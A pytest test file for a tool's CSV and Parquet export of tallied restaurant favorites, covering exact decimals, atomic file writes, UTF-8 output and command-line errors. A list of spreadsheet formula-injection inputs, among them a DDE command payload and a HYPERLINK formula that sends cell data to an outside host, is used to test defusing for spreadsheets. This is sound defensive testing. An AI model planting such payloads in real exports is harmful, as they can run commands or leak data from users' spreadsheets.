"""Export, from the store to the file that a notebook opens."""

import csv
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tallies.core.boards.spans import parse_span
from tallies.core.boards.tiling import cut, find_span
from tallies.core.errors import InvalidInput
from tallies.core.tally import Average, Count, Number, Sum, Tally
from tallies.core.windows import Window
from tallies.favorites.tally import FAVORITES
from tallies.operate.export import (
    Line,
    columns,
    defused,
    lines,
    span_lines,
    write_csv,
    write_file,
    write_parquet,
)
from tallies.stores.protocol import TallyRow
from tests.cli.command import environment, tallies
from tests.engines import DynamoDBAccount

NOW = datetime(2026, 11, 23, 14, 5, 6, tzinfo=UTC)
ODD = 'a "quoted", Straße\u2028☕'
ROWS = [
    TallyRow(ODD, "2082", {"favorites": 3}),
    TallyRow(ODD, "2082-11", {"favorites": 2}),
    TallyRow(ODD, "2082-W48", {"favorites": 2}),
    TallyRow(ODD, "2082-11-23", {"favorites": 1}),
    TallyRow(ODD, "2082-11-23T14", {"favorites": 1}),
    TallyRow(ODD, "all", {"favorites": 2**60}),
    TallyRow(ODD, "by hand", {"favorites": 7}),
]
LINES: list[Line] = [
    (ODD, "year", "2082", date(2082, 1, 1), 3),
    (ODD, "month", "2082-11", date(2082, 11, 1), 2),
    (ODD, "week", "2082-W48", date(2082, 11, 23), 2),
    (ODD, "day", "2082-11-23", date(2082, 11, 23), 1),
    (ODD, "hour", "2082-11-23T14", date(2082, 11, 23), 1),
    (ODD, "all", "all", None, 2**60),
]
LOG = """user_id,restaurant_id,created_at
ann,noodles,2025-11-22T12:00:00Z
bob,noodles,2025-11-23T01:00:00Z
ann,"fish #1, ☕",2025-10-01T00:00:00Z
"""
HISTORY = """restaurant_id,kind,window,starts,favorites
"fish #1, ☕",day,2025-10-01,2025-10-01,1
noodles,day,2025-11-22,2025-11-22,1
noodles,day,2025-11-23,2025-11-23,1
"""


def test_every_window_has_its_kind_and_its_first_day() -> None:
    assert list(lines(FAVORITES, ROWS)) == LINES
    assert list(lines(FAVORITES, ROWS, [Window.DAY, Window.ALL])) == [LINES[3], LINES[5]]


def test_a_span_has_a_line_for_each_group_that_has_something_in_it() -> None:
    rows = [
        TallyRow("a", "2026-11-22", {"favorites": 2}),
        TallyRow("a", "2026-11-23", {"favorites": 3}),
        TallyRow("a", "all", {"favorites": 9}),
        TallyRow("b", "2026-11-20", {"favorites": 1}),
        TallyRow("c", "2026-11-23", {"favorites": 1}),
        TallyRow("c", "by hand", {"favorites": 7}),
    ]
    two = find_span("2026-11-22..2026-11-23", FAVORITES, NOW)
    start = date(2026, 11, 22)
    assert list(span_lines(FAVORITES, rows, two)) == [
        ("a", "span", two.name, start, 5),
        ("c", "span", two.name, start, 1),
    ]
    trending = find_span("trending-1-days", FAVORITES, NOW)
    found = {line[0]: line[-1] for line in span_lines(FAVORITES, rows, trending)}
    assert found == {"a": 4, "b": Decimal("0.125"), "c": 1}


def test_of_a_span_averages_are_left_out() -> None:
    tally = Tally(
        name="orders",
        group_by="shop",
        measures={"orders": Count(), "average": Average("total"), "revenue": Sum("total")},
        windows=(Window.DAY,),
        time="at",
    )
    span = cut(parse_span("2026-11-22..2026-11-23"), tally, NOW, tally.windows)
    values: dict[str, Number] = {
        "orders": 2,
        "average": Decimal("-1.5"),
        "revenue": Decimal("-3.000000001"),
    }
    rows = [TallyRow("a", day, values) for day in ("2026-11-22", "2026-11-23")]
    assert columns(tally, span) == ["shop", "kind", "window", "starts", "orders", "revenue"]
    (line,) = span_lines(tally, rows, span)
    assert line[-2:] == (4, Decimal("-6.000000002"))
    only = replace(tally, measures={"average": Average("total")}, ranked_by=None)
    with pytest.raises(InvalidInput, match="averages only"):
        list(span_lines(only, rows, span))


def test_parquet_of_trending_holds_exact_decimals(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    trending = find_span("trending", FAVORITES, NOW)
    rows = [TallyRow("a", "2026-11-22", {"favorites": 2**40})]
    found = list(span_lines(FAVORITES, rows, trending))
    assert found[0][-1] == Decimal(2**40) * 793_701 / 10**6
    list(write_parquet(FAVORITES, found, tmp_path / "f", trending))
    (row,) = parquet.read_table(tmp_path / "f").to_pylist()
    assert tuple(row.values()) == found[0]


def test_csv_holds_any_id() -> None:
    out = StringIO(newline="")
    assert list(write_csv(FAVORITES, LINES, out)) == [len(LINES)]
    found = list(csv.reader(StringIO(out.getvalue(), newline="")))
    assert found[0] == ["restaurant_id", "kind", "window", "starts", "favorites"]
    assert found[1:] == [
        [line[0], line[1], line[2], line[3].isoformat() if line[3] else "", str(line[4])]
        for line in LINES
    ]


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"more")',
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "fish;=1+1",
    'fish";=1+1',
    "fish, -chips",
    "'=1+1",
]
"""Ids that a spreadsheet would take for formulas, if only where it splits cells at semicolons."""
HARMLESS = ["noodles", "a=b", "fish'n'chips", "1-2", "ann@example.org", "fish; chips", "日本=1", ""]


def read_as_spreadsheet(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))


def test_no_cell_for_a_spreadsheet_is_a_formula() -> None:
    """Wherever it splits the lines: at commas, or as in half of the world at semicolons."""
    out = StringIO(newline="")
    found: list[Line] = [(id_, "all", "all", None, -3) for id_ in [*FORMULAS, *HARMLESS]]
    list(write_csv(FAVORITES, found, out, for_spreadsheets=True))
    text = out.getvalue()
    assert text.startswith("\ufeffrestaurant_id,kind")
    rows = read_as_spreadsheet(text.removeprefix("\ufeff"), ",")[1:]
    assert [row[0] for row in rows[len(FORMULAS) :]] == HARMLESS
    assert all(row[0] != id_ for row, id_ in zip(rows, FORMULAS, strict=False))
    assert {row[-1] for row in rows} == {"-3"}  # a number stays one
    cells = [cell for row in rows for cell in row[:-1]]
    cells += [cell for row in read_as_spreadsheet(text, ";") for cell in row]
    for cell in cells:
        assert cell.strip('\ufeff "')[:1] not in {*"=+-@＝＋－＠"}


@given(st.text("=+-@'; ,\"a\ufeff＝", max_size=8), st.text("=+-@'; ,\"a\ufeff＝", max_size=8))
def test_texts_that_differ_stay_different_in_a_spreadsheet(one: str, other: str) -> None:
    assert (defused(one) == defused(other)) is (one == other)


@pytest.mark.parametrize("count", [0, 1, 25_000])
def test_parquet_holds_what_went_in(tmp_path: Path, count: int) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    found = [(*line[:-1], n) for n, line in zip(range(count), LINES * count, strict=False)]
    steps = list(write_parquet(FAVORITES, found, tmp_path / "f"))
    assert steps == {0: [], 1: [1], 25_000: [10_000, 20_000, 25_000]}[count]
    table = parquet.read_table(tmp_path / "f")
    assert table.column_names == columns(FAVORITES)
    assert [tuple(row.values()) for row in table.to_pylist()] == found


def test_a_failed_export_leaves_the_old_file_and_no_other(tmp_path: Path) -> None:
    def breaks() -> "list[Line]":
        raise OSError(28, "No space left on device")

    target = tmp_path / "out.csv"
    target.write_text("old")
    with pytest.raises(InvalidInput, match="No space left"):
        list(write_file(FAVORITES, (line for _ in range(2) for line in breaks()), target, "csv"))
    assert [(each.name, each.read_text()) for each in tmp_path.iterdir()] == [("out.csv", "old")]
    assert list(write_file(FAVORITES, LINES, target, "csv")) == [len(LINES)]
    assert len(list(tmp_path.iterdir())) == 1


@pytest.fixture(params=["sqlite", "dynamodb"])
def loaded(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path}/s.db"
    if request.param == "dynamodb":
        account: DynamoDBAccount = request.getfixturevalue("aws_environment")
        url = account.store_url("export")
    log = tmp_path / "log.csv"
    log.write_text(LOG, encoding="utf-8")
    assert tallies("load", log, store=url).code == 0
    return url


@pytest.mark.slow(only="dynamodb")
def test_the_command(loaded: str, tmp_path: Path) -> None:
    found = tallies("export", "--kind", "day", store=loaded)
    assert found.code == 0
    head, *rest = found.out.splitlines(keepends=True)
    assert head + "".join(sorted(rest)) == HISTORY
    kinds = [row["kind"] for row in csv.DictReader(StringIO(tallies("export", store=loaded).out))]
    assert sorted(kinds) == ["all"] * 2 + ["day"] * 3 + ["month"] * 2
    span = csv.DictReader(StringIO(tallies("export", "2025-10-01..2025-11-22", store=loaded).out))
    assert sorted((row["restaurant_id"], row["favorites"]) for row in span) == [
        ("fish #1, ☕", "1"),
        ("noodles", "1"),
    ]
    one = csv.DictReader(StringIO(tallies("export", "2025-11-23", store=loaded).out))
    assert [(row["restaurant_id"], row["kind"]) for row in one] == [("noodles", "day")]
    path = tmp_path / "t.parquet"
    assert tallies("export", "-o", path, store=loaded) == (0, "", f"7 rows in {path}\n")
    assert pytest.importorskip("pyarrow.parquet").read_table(path).num_rows == 7


def test_the_command_for_spreadsheets(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/s.db"
    log = tmp_path / "log.csv"
    log.write_text('user_id,restaurant_id,created_at\nann,"=1+1,☕",2025-11-22T12:00:00Z\n')
    assert tallies("load", log, store=url).code == 0
    exact = tallies("export", "all", store=url)
    assert exact.out.splitlines()[1] == '"=1+1,☕",all,all,,1'
    safe = tallies("export", "all", "--for-spreadsheets", store=url)
    assert safe.out.splitlines()[1] == '"\'=1+1,☕",all,all,,1'
    path = tmp_path / "t.csv"
    assert tallies("export", "all", "--for-spreadsheets", "-o", path, store=url).code == 0
    assert path.read_bytes() == safe.out.encode()
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    refused = tallies("export", "--for-spreadsheets", "-o", tmp_path / "t.parquet", store=url)
    assert (refused.code, refused.err.count("\n")) == (2, 1)
    assert "about CSV" in refused.err


def test_ids_are_utf8_whatever_the_terminal_is(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/s.db"
    log = tmp_path / "log.csv"
    log.write_text(LOG, encoding="utf-8")
    assert tallies("load", log, store=url).code == 0
    done = subprocess.run(
        [sys.executable, "-m", "tallies", "export", "--store", url],
        capture_output=True,
        env=environment(PYTHONIOENCODING="ascii", PYTHONUTF8="0"),
        timeout=300,
    )
    assert "fish #1, ☕" in done.stdout.decode("utf-8")


def test_wrong_use_is_one_sentence(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/s.db"
    assert tallies("export", store=url).code == 2  # there is no store
    assert tallies("init", store=url).code == 0
    assert tallies("export", store=url).out == "restaurant_id,kind,window,starts,favorites\n"
    assert tallies("export", "--kind", "week", store=url) == (
        2,
        "",
        "tallies: The tally keeps no windows by week; it keeps all, month, day.\n",
    )
    other = tmp_path / "tallies.xlsx"
    named = tallies("export", "-o", other, store=url)
    assert (named.code, named.err) == (
        2,
        f"tallies: {other} would be CSV under another name; end it with .csv or .parquet.\n",
    )
    assert tallies("export", "--format", "csv", "-o", other, store=url).code == 0
    nowhere = tallies("export", "-o", tmp_path / "no" / "f.csv", store=url)
    assert nowhere.code == 2
    assert "cannot be written" in nowhere.err
    assert "--output" in tallies("export", "--format", "parquet", store=url).err
    (tmp_path / "pyarrow.py").write_text("raise ModuleNotFoundError(name='pyarrow')")
    missing = tallies("export", "-o", tmp_path / "f.parquet", store=url, PYTHONPATH=str(tmp_path))
    assert (missing.code, missing.err.count("\n")) == (2, 1)
    assert "tallies[export]" in missing.err
    assert not (tmp_path / "f.parquet").exists()
